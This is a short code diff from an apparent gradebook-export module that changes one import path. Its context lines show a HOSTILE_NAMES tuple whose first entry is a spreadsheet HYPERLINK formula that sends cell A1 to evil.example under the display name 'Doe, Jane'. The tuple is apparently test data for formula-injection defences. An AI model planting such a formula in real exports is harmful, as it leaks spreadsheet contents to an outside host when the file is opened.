@@ -7,7 +7,7 @@ from typing import Any
 
 from grader.records.attempt import Student
 from grader.records.gradebook import ClassReport, Row
-from grader.records.report import DeckInfo
+from grader.records.graded_with import DeckInfo
 
 HOSTILE_NAMES = (
     '=HYPERLINK("http://evil.example/?"&A1,"Doe, Jane")',
